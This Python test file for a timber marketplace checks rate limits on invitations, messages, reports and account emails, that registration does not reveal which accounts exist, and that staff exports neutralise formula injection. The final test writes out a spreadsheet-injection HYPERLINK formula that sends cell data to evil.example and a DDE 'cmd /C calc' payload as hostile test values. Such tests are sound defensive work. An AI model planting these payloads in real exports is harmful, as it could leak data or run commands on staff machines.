"""Mail and notices that others can trigger: rate limits per user, per address and per client
(refused with a message on the page, nothing saved or queued), one open invitation per address
and firm, one report per member and listing, and a registration that does not tell who has an
account."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select
from werkzeug.exceptions import TooManyRequests

from marketplace.services.accounts import users
from marketplace.services.deals.conversations import InquiryInput, start_inquiry
from models import Invitation, ListingReport, Message, Organisation, OutboxEmail, User
from models.base import swedish_today
from tests.conftest import text_of, without_tokens
from tests.factories import ListingFactory, SiteFactory, UserFactory, org_number

REFUSED_INVITE = {
    "en": "Too many invitations in a short time. You can send more after",
    "sv": "För många inbjudningar på kort tid. Du kan skicka fler efter",
}
REFUSED_MESSAGE = {
    "en": "Too many messages in a short time. You can send more after",
    "sv": "För många meddelanden på kort tid. Du kan skicka fler efter",
}
REFUSED_MAIL = {
    "en": "Too many emails have been asked for in a short time.",
    "sv": "Det har begärts för många e-postmeddelanden på kort tid.",  # anonymous: Swedish
}


def outbox(session) -> int:  # type: ignore[no-untyped-def]
    session.expire_all()
    return session.scalar(select(func.count(OutboxEmail.id)))


def count(session, model) -> int:  # type: ignore[no-untyped-def]
    return session.scalar(select(func.count()).select_from(model))


def signed_in(make_client, user):  # type: ignore[no-untyped-def]
    client = make_client()
    client.login(user.email)
    return client


@pytest.fixture
def limits(app, monkeypatch):  # type: ignore[no-untyped-def]
    """Set rate limits for one test, e.g. limits(invite_rate_limit="2 per minute")."""

    def change(**values: str) -> None:
        settings = replace(app.extensions["settings"], **values)
        monkeypatch.setitem(app.extensions, "settings", settings)

    return change


# --- invitations ---------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["en", "sv"])
def test_the_eleventh_invitation_within_a_minute_is_refused(make_client, session, language):
    owner = UserFactory(locale=language)
    client = signed_in(make_client, owner)
    for n in range(10):
        response = client.post("/firm/members/invite", {"email": f"colleague{n}@firm.example"})
        assert response.status_code == 303, text_of(response)[:2000]
    assert outbox(session) == 10

    response = client.post("/firm/members/invite", {"email": "eleventh@firm.example"})
    page = text_of(response)
    assert response.status_code == 429
    error = re.search(r'id="email-error">([^<]*)<', page)
    assert error and REFUSED_INVITE[language] in error.group(1)
    assert 'value="eleventh@firm.example"' in page  # the address stays in the field
    assert outbox(session) == 10
    assert count(session, Invitation) == 10


def test_invitations_to_one_address_are_limited_across_firms(make_client, session, limits):
    limits(invite_rate_limit="2 per minute")
    owners = [UserFactory() for _ in range(3)]
    statuses = [
        signed_in(make_client, owner)
        .post("/firm/members/invite", {"email": "Target@Mail.example"})
        .status_code
        for owner in owners
    ]
    assert statuses == [303, 303, 429]  # the third firm has sent nothing, the address is full
    assert outbox(session) == 2


def test_mail_actions_from_one_client_address_are_limited_together(make_client, session, limits):
    limits(client_rate_limit="3 per minute")
    owner = UserFactory()
    client = signed_in(make_client, owner)
    for n in range(2):
        response = client.post("/firm/members/invite", {"email": f"c{n}@firm.example"})
        assert response.status_code == 303
    # A second account from the same client address shares the client's count.
    other = signed_in(make_client, UserFactory())
    assert other.post("/firm/members/invite", {"email": "x@firm.example"}).status_code == 303
    assert other.post("/firm/members/invite", {"email": "y@firm.example"}).status_code == 429
    assert outbox(session) == 3


def test_a_second_open_invitation_is_refused_beside_the_field_and_can_be_resent(
    make_client, session, mailbox
):
    owner = UserFactory()
    client = signed_in(make_client, owner)
    assert client.post("/firm/members/invite", {"email": "new@firm.example"}).status_code == 303
    first_link = mailbox.last_link("new@firm.example")

    response = client.post("/firm/members/invite", {"email": "NEW@firm.example"})
    page = text_of(response)
    assert response.status_code == 422
    error = re.search(r'id="email-error">([^<]*)<', page)
    assert error and "An invitation to new@firm.example is already open" in error.group(1)
    assert count(session, Invitation) == 1
    assert outbox(session) == 1

    # "Send again" sends the same invitation again.
    invitation = session.scalars(select(Invitation)).one()
    assert f"/firm/invitations/{invitation.id}/resend" in page
    response = client.post(f"/firm/invitations/{invitation.id}/resend")
    assert response.status_code == 303
    assert outbox(session) == 2
    assert count(session, Invitation) == 1
    assert len(mailbox.messages("new@firm.example")) == 2
    assert make_client().get(mailbox.last_link("new@firm.example")).status_code == 200
    assert make_client().get(first_link).status_code == 200  # the first link works as well


def test_resending_is_rate_limited_too(make_client, session, limits):
    limits(invite_rate_limit="2 per minute")
    owner = UserFactory()
    client = signed_in(make_client, owner)
    client.post("/firm/members/invite", {"email": "new@firm.example"})
    invitation = session.scalars(select(Invitation)).one()
    assert client.post(f"/firm/invitations/{invitation.id}/resend").status_code == 303
    response = client.post(f"/firm/invitations/{invitation.id}/resend", follow_redirects=True)
    assert REFUSED_INVITE["en"] in text_of(response)
    assert outbox(session) == 2


def test_only_open_invitations_of_ones_own_firm_can_be_resent(make_client, session):
    owner = UserFactory()
    invitation = Invitation(organisation=owner.organisation, email="new@firm.example")
    session.add(invitation)
    session.flush()
    other = signed_in(make_client, UserFactory())
    assert other.post(f"/firm/invitations/{invitation.id}/resend").status_code == 404
    client = signed_in(make_client, owner)
    client.post(f"/firm/invitations/{invitation.id}/revoke")
    response = client.post(f"/firm/invitations/{invitation.id}/resend", follow_redirects=True)
    assert "already been used or withdrawn" in text_of(response)
    assert outbox(session) == 0


# --- messages and inquiries ----------------------------------------------------------------


@pytest.fixture
def conversation(session):  # type: ignore[no-untyped-def]
    seller = UserFactory(email="seller@saw.example")
    buyer = UserFactory(email="buyer@pellets.example")
    SiteFactory(organisation=buyer.organisation)
    offer = ListingFactory(site=SiteFactory(organisation=seller.organisation))
    found, _ = start_inquiry(
        session, actor=buyer, listing_id=offer.id, data=InquiryInput("Hej"), today=swedish_today()
    )
    return found


@pytest.mark.parametrize("language", ["en", "sv"])
def test_the_eleventh_message_within_a_minute_is_refused(
    make_client, session, conversation, language
):
    buyer = session.scalar(select(User).where(User.email == "buyer@pellets.example"))
    buyer.locale = language
    session.flush()
    client = signed_in(make_client, buyer)
    url = f"/messages/{conversation.id}"
    before = outbox(session)
    for n in range(10):
        assert client.post(url, {"body": f"Meddelande {n}"}).status_code == 303
    queued = outbox(session)
    assert queued > before
    messages = count(session, Message)

    response = client.post(url, {"body": "Det elfte meddelandet"})
    page = text_of(response)
    assert response.status_code == 429
    error = re.search(r'id="body-error">([^<]*)<', page)
    assert error and REFUSED_MESSAGE[language] in error.group(1)
    assert "Det elfte meddelandet</textarea>" in page  # the text is not lost
    assert count(session, Message) == messages
    assert outbox(session) == queued


def test_inquiries_count_with_messages(make_client, session, conversation, limits):
    limits(message_rate_limit="2 per minute")
    buyer = session.scalar(select(User).where(User.email == "buyer@pellets.example"))
    client = signed_in(make_client, buyer)
    for n in range(2):
        assert client.post(f"/messages/{conversation.id}", {"body": f"M {n}"}).status_code == 303
    another = ListingFactory(title="Bark i Mora")
    response = client.post(f"/listings/{another.id}/inquire", {"message": "Finns barken kvar?"})
    page = text_of(response)
    assert response.status_code == 429
    error = re.search(r'id="message-error">([^<]*)<', page)
    assert error and REFUSED_MESSAGE["en"] in error.group(1)
    assert "Finns barken kvar?</textarea>" in page
    assert count(session, Message) == 3  # the first inquiry and the two messages


# --- listing reports -----------------------------------------------------------------------


def test_a_second_report_of_a_listing_is_answered_kindly_and_not_saved(make_client, session):
    member = UserFactory()
    listing = ListingFactory()
    client = signed_in(make_client, member)
    client.post(f"/listings/{listing.id}/report", {"reason": "Fel kategori."})
    response = client.post(
        f"/listings/{listing.id}/report", {"reason": "Fortfarande fel."}, follow_redirects=True
    )
    assert response.status_code == 200
    assert "You have already reported this listing" in text_of(response)
    assert count(session, ListingReport) == 1
    # Another member's report is a report of its own.
    signed_in(make_client, UserFactory()).post(
        f"/listings/{listing.id}/report", {"reason": "Fel mängd."}
    )
    assert count(session, ListingReport) == 2


def test_reports_are_rate_limited_per_member(make_client, session, limits):
    limits(report_rate_limit="2 per minute")
    client = signed_in(make_client, UserFactory())
    listings = [ListingFactory() for _ in range(3)]
    for listing in listings:
        response = client.post(
            f"/listings/{listing.id}/report", {"reason": "Fel."}, follow_redirects=True
        )
    assert "Too many reports in a short time" in text_of(response)
    assert count(session, ListingReport) == 2


# --- registration, password reset, verification --------------------------------------------

REGISTRATION = {
    "name": "Anna Sågare",
    "password": "timmer-och-spån-2026",
    "password_confirm": "timmer-och-spån-2026",
    "firm_name": "Edsbyns Såg AB",
    "sni_code": "16.101",
}


def register(client, email: str):  # type: ignore[no-untyped-def]
    return client.post("/register", {**REGISTRATION, "email": email, "org_number": org_number()})


def test_registration_answers_alike_for_a_new_and_a_taken_address(
    make_client, session, mailbox, monkeypatch
):
    UserFactory(email="taken@firm.example", name="Tove Ägare", locale="sv")
    hashed = []
    real_hash = users.hash_password
    monkeypatch.setattr(users, "hash_password", lambda p: hashed.append(p) or real_hash(p))
    answers = []
    for email in ("new@firm.example", "taken@firm.example"):
        browser = make_client()
        browser.post("/language", {"language": "en"})
        response = register(browser, email)
        cookies = sorted(c.split("=")[0] for c in response.headers.getlist("Set-Cookie"))
        page = text_of(browser.get(response.headers["Location"]))
        answers.append(
            (
                response.status_code,
                response.headers["Location"],
                cookies,
                without_tokens(page.replace(email, "X")),
                browser.get("/account").status_code,  # nobody signed in
            )
        )
    assert answers[0] == answers[1]
    assert answers[0][:2] == (303, "/register/sent") and answers[0][4] == 302
    assert len(hashed) == 2  # both cases do the slow part, so they take about as long

    # The new address was registered and asked to confirm; the taken one created nothing.
    assert session.scalar(select(User).where(User.email == "new@firm.example")) is not None
    assert count(session, Organisation) == 2  # the new firm and the taken account's firm
    [verify] = mailbox.messages("new@firm.example")
    assert verify["subject"] == "Confirm your email address"
    # The account's owner is told, in their language, with a way in.
    [notice] = mailbox.messages("taken@firm.example")
    assert notice["subject"] == "Någon har försökt registrera sig med din e-postadress"
    assert "Hej Tove Ägare!" in notice["text"]
    assert "http://localhost/login" in notice["text"]
    assert "http://localhost/password/forgot" in notice["text"]
    assert "/verify/" not in notice["text"] and "/password/reset/" not in notice["text"]


def test_a_registration_attempt_tells_a_deactivated_account_nothing(make_client, session, mailbox):
    user = UserFactory(email="gone@firm.example")
    user.active = False
    session.flush()
    response = register(make_client(), "gone@firm.example")
    assert (response.status_code, response.headers["Location"]) == (303, "/register/sent")
    assert mailbox.messages("gone@firm.example") == []


def test_registrations_to_one_address_are_limited_alike(make_client, session, limits):
    limits(account_mail_rate_limit="1 per hour")
    UserFactory(email="taken@firm.example")
    answers = []
    for email in ("new@firm.example", "taken@firm.example"):
        register(make_client(), email)
        response = register(make_client(), email)
        page = text_of(response)
        error = re.search(r'id="email-error">([^<]*)<', page)
        answers.append((response.status_code, error and REFUSED_MAIL["sv"] in error.group(1)))
    assert answers == [(429, True), (429, True)]
    assert outbox(session) == 2


def test_password_reset_mails_to_one_address_are_limited_alike(make_client, session, limits):
    limits(account_mail_rate_limit="1 per hour")
    UserFactory(email="known@firm.example")
    pages = []
    for email in ("known@firm.example", "nobody@firm.example"):
        client = make_client()
        assert client.post("/password/forgot", {"email": email}).status_code == 303
        response = client.post("/password/forgot", {"email": email})
        assert response.status_code == 429
        pages.append(without_tokens(text_of(response).replace(email, "X")))
    assert pages[0] == pages[1]
    assert REFUSED_MAIL["sv"] in pages[0]
    assert outbox(session) == 1


def test_verification_mails_are_limited_per_user(make_client, session, limits):
    limits(account_mail_rate_limit="2 per hour")
    user = UserFactory(email_verified_at=None)
    client = signed_in(make_client, user)
    assert client.post("/verify/resend").status_code == 303
    assert client.post("/verify/resend").status_code == 303
    response = client.post("/verify/resend", follow_redirects=True)
    assert REFUSED_MAIL["en"] in text_of(response)
    assert outbox(session) == 2


# --- the JSON API --------------------------------------------------------------------------


def test_the_api_answers_too_many_requests_in_json(app):
    with app.test_request_context("/api/v1/listings"):
        response = app.make_response(app.handle_user_exception(TooManyRequests()))
    assert response.status_code == 429
    assert response.get_json()["error"] == {
        "status": 429,
        "message": "too many requests; wait a little and try again",
    }


# --- staff exports -------------------------------------------------------------------------


def test_staff_exports_write_a_hostile_title_and_firm_as_text(make_client, session):
    title = '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")'
    listing = ListingFactory(title=title)
    listing.organisation.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    session.flush()
    staff = UserFactory(organisation=None, org_role=None, is_staff=True)
    client = signed_in(make_client, staff)

    text = client.get("/staff/export/listings.csv").get_data().decode("utf-8-sig")
    [row] = [r for r in csv.DictReader(io.StringIO(text)) if r["Id"] == str(listing.id)]
    assert row["Title"] == "'" + title
    assert row["Firm"] == "'" + listing.organisation.name

    book = load_workbook(io.BytesIO(client.get("/staff/export/listings.xlsx").get_data()))
    sheet = book.active
    headers = [cell.value for cell in sheet[1]]
    [cells] = [r for r in sheet.iter_rows(min_row=2) if r[0].value == listing.id]
    for column, value in (("Title", title), ("Firm", listing.organisation.name)):
        cell = cells[headers.index(column)]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)
